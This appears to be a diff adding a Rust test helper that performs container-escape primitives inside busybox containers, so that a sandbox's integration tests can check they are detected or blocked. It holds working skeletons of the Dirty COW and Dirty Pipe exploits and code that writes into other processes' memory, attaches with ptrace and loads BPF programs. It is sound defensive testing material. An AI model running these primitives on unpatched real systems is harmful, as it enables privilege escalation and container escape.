@@ -1,0 +1,276 @@
+//! The escape primitives the integration tests run inside busybox containers, where no tool
+//! makes these syscalls. Built statically (`cargo xtask test` does it) and copied into the
+//! container's rootfs. Every primitive is the real syscall sequence, bounded in time, and
+//! harmless on this machine's patched kernel (Dirty COW / Dirty Pipe write private copies).
+//!
+//! Usage: primitives <dirtycow FILE | dirtypipe FILE | procmem | pvwritev | ptrace PID |
+//!        bpf | open-by-handle | userfaultfd | connect PATH | finit-module>
+
+use std::{
+    ffi::CString,
+    fs::OpenOptions,
+    io::Write,
+    os::unix::{fs::FileExt, io::AsRawFd},
+    process::exit,
+    sync::atomic::{AtomicBool, Ordering},
+    thread,
+    time::{Duration, Instant},
+};
+
+fn fail(what: &str) -> ! {
+    eprintln!("primitives: {what}: {}", std::io::Error::last_os_error());
+    exit(1)
+}
+
+/// Dirty COW: map FILE read-only and private; one thread discards the pages, another forces
+/// writes into the mapping through /proc/self/mem.
+fn dirtycow(path: &str) {
+    let file = std::fs::File::open(path).unwrap_or_else(|_| fail("open target"));
+    let len = file.metadata().map(|m| m.len()).unwrap_or(0).max(1) as usize;
+    // SAFETY: mapping a file we opened; the mapping is only touched through madvise and
+    // /proc/self/mem below.
+    let map = unsafe {
+        libc::mmap(
+            std::ptr::null_mut(),
+            len,
+            libc::PROT_READ,
+            libc::MAP_PRIVATE,
+            file.as_raw_fd(),
+            0,
+        )
+    };
+    if map == libc::MAP_FAILED {
+        fail("mmap");
+    }
+    let addr = map as usize;
+    static STOP: AtomicBool = AtomicBool::new(false);
+    let discard = thread::spawn(move || {
+        let mut n = 0u64;
+        while !STOP.load(Ordering::Relaxed) && n < 200 {
+            // SAFETY: our own mapping.
+            unsafe { libc::madvise(addr as *mut libc::c_void, len, libc::MADV_DONTNEED) };
+            n += 1;
+            thread::sleep(Duration::from_millis(1));
+        }
+        n
+    });
+    let mem = OpenOptions::new()
+        .read(true)
+        .write(true)
+        .open("/proc/self/mem")
+        .unwrap_or_else(|_| fail("open /proc/self/mem"));
+    let start = Instant::now();
+    let mut writes = 0u64;
+    while start.elapsed() < Duration::from_millis(500) && writes < 200 {
+        let _ = mem.write_at(b"m00", addr as u64);
+        writes += 1;
+        thread::sleep(Duration::from_millis(1));
+    }
+    STOP.store(true, Ordering::Relaxed);
+    let discards = discard.join().unwrap_or(0);
+    println!("dirtycow: {discards} discards, {writes} forced writes at {addr:#x}");
+}
+
+/// Dirty Pipe: prime a pipe, splice one byte of the read-only FILE into it, write to the pipe.
+fn dirtypipe(path: &str) {
+    let mut fds = [0i32; 2];
+    // SAFETY: plain syscalls on descriptors we own.
+    unsafe {
+        if libc::pipe(fds.as_mut_ptr()) != 0 {
+            fail("pipe");
+        }
+        let size = libc::fcntl(fds[1], libc::F_GETPIPE_SZ) as usize;
+        let page = [0u8; 4096];
+        let mut left = size;
+        while left > 0 {
+            let n = left.min(page.len());
+            libc::write(fds[1], page.as_ptr().cast(), n);
+            left -= n;
+        }
+        let mut sink = [0u8; 4096];
+        left = size;
+        while left > 0 {
+            let n = left.min(sink.len());
+            libc::read(fds[0], sink.as_mut_ptr().cast(), n);
+            left -= n;
+        }
+        let file = std::fs::File::open(path).unwrap_or_else(|_| fail("open target"));
+        let mut off: libc::loff_t = 0;
+        if libc::splice(
+            file.as_raw_fd(),
+            &mut off,
+            fds[1],
+            std::ptr::null_mut(),
+            1,
+            0,
+        ) != 1
+        {
+            fail("splice");
+        }
+        if libc::write(fds[1], b"X".as_ptr().cast(), 1) != 1 {
+            fail("write to pipe");
+        }
+    }
+    println!("dirtypipe: spliced {path} and wrote the pipe");
+}
+
+static mut TARGET_WORD: u64 = 0x5555;
+
+/// Fork a child and write a word of its memory, through /proc/PID/mem or process_vm_writev.
+fn write_child(use_pvw: bool) {
+    // SAFETY: fork in a single-threaded process; the child only sleeps.
+    let child = unsafe { libc::fork() };
+    if child == 0 {
+        thread::sleep(Duration::from_secs(5));
+        // SAFETY: exiting the child.
+        unsafe { libc::_exit(0) };
+    }
+    let addr = std::ptr::addr_of!(TARGET_WORD) as u64;
+    let word = 0x4141u64.to_ne_bytes();
+    if use_pvw {
+        let local = libc::iovec {
+            iov_base: word.as_ptr() as *mut libc::c_void,
+            iov_len: 8,
+        };
+        let remote = libc::iovec {
+            iov_base: addr as *mut libc::c_void,
+            iov_len: 8,
+        };
+        // SAFETY: valid iovecs for the duration of the call.
+        let n = unsafe { libc::process_vm_writev(child, &local, 1, &remote, 1, 0) };
+        println!("process_vm_writev into {child}: {n}");
+    } else {
+        let mem = OpenOptions::new()
+            .write(true)
+            .open(format!("/proc/{child}/mem"))
+            .unwrap_or_else(|_| fail("open child mem"));
+        let n = mem.write_at(&word, addr);
+        println!("/proc/{child}/mem write: {n:?}");
+    }
+    // SAFETY: reaping our own child.
+    unsafe {
+        libc::kill(child, libc::SIGKILL);
+        libc::waitpid(child, std::ptr::null_mut(), 0);
+    }
+}
+
+fn ptrace_attach(pid: i32) {
+    // SAFETY: attach then detach; the tracee is stopped for a moment only.
+    unsafe {
+        if libc::ptrace(libc::PTRACE_ATTACH, pid, 0, 0) != 0 {
+            fail("PTRACE_ATTACH");
+        }
+        libc::waitpid(pid, std::ptr::null_mut(), 0);
+        libc::ptrace(libc::PTRACE_DETACH, pid, 0, 0);
+    }
+    println!("ptrace attached to {pid}");
+}
+
+/// BPF_PROG_LOAD of `r0 = 0; exit` as a socket filter.
+fn bpf_load() {
+    let insns: [u64; 2] = [0x0000_0000_0000_00b7, 0x0000_0000_0000_0095];
+    let license = CString::new("GPL").unwrap();
+    #[repr(C)]
+    #[derive(Default)]
+    struct Attr {
+        prog_type: u32,
+        insn_cnt: u32,
+        insns: u64,
+        license: u64,
+        rest: [u64; 16],
+    }
+    let attr = Attr {
+        prog_type: 1,
+        insn_cnt: 2,
+        insns: insns.as_ptr() as u64,
+        license: license.as_ptr() as u64,
+        ..Default::default()
+    };
+    // SAFETY: a well-formed bpf_attr prefix; the kernel reads `size` bytes.
+    let fd = unsafe {
+        libc::syscall(
+            libc::SYS_bpf,
+            5,
+            &attr as *const Attr,
+            std::mem::size_of::<Attr>(),
+        )
+    };
+    println!("bpf(BPF_PROG_LOAD): {fd}");
+}
+
+fn open_by_handle() {
+    let root = std::fs::File::open("/").unwrap_or_else(|_| fail("open /"));
+    #[repr(C)]
+    struct Handle {
+        bytes: u32,
+        kind: i32,
+        data: [u8; 8],
+    }
+    let mut h = Handle {
+        bytes: 8,
+        kind: 1,
+        data: [2, 0, 0, 0, 0, 0, 0, 0],
+    };
+    // SAFETY: a well-formed file_handle; failure is expected and fine.
+    let rc = unsafe {
+        libc::syscall(
+            libc::SYS_open_by_handle_at,
+            root.as_raw_fd(),
+            &mut h as *mut Handle,
+            libc::O_RDONLY,
+        )
+    };
+    println!("open_by_handle_at: {rc}");
+}
+
+fn userfaultfd() {
+    // SAFETY: plain syscall.
+    let fd = unsafe { libc::syscall(libc::SYS_userfaultfd, libc::O_CLOEXEC) };
+    println!("userfaultfd: {fd}");
+}
+
+fn connect(path: &str) {
+    match std::os::unix::net::UnixStream::connect(path) {
+        Ok(mut s) => {
+            let _ = s.write_all(b"GET /_ping HTTP/1.0\r\n\r\n");
+            println!("connected to {path}");
+        }
+        Err(e) => {
+            eprintln!("connect {path}: {e}");
+            exit(1);
+        }
+    }
+}
+
+fn finit_module() {
+    // SAFETY: plain syscall with an invalid fd: the attempt is what is tested.
+    let rc = unsafe { libc::syscall(libc::SYS_finit_module, -1, c"".as_ptr(), 0) };
+    println!("finit_module: {rc}");
+}
+
+fn main() {
+    let args: Vec<String> = std::env::args().collect();
+    let arg = |i: usize| {
+        args.get(i)
+            .cloned()
+            .unwrap_or_else(|| fail("missing argument"))
+    };
+    match args.get(1).map(String::as_str) {
+        Some("dirtycow") => dirtycow(&arg(2)),
+        Some("dirtypipe") => dirtypipe(&arg(2)),
+        Some("procmem") => write_child(false),
+        Some("pvwritev") => write_child(true),
+        Some("ptrace") => ptrace_attach(arg(2).parse().unwrap_or_else(|_| fail("pid"))),
+        Some("bpf") => bpf_load(),
+        Some("open-by-handle") => open_by_handle(),
+        Some("userfaultfd") => userfaultfd(),
+        Some("connect") => connect(&arg(2)),
+        Some("finit-module") => finit_module(),
+        _ => {
+            eprintln!(
+                "usage: primitives <dirtycow FILE|dirtypipe FILE|procmem|pvwritev|ptrace PID|bpf|open-by-handle|userfaultfd|connect PATH|finit-module>"
+            );
+            exit(2);
+        }
+    }
+}
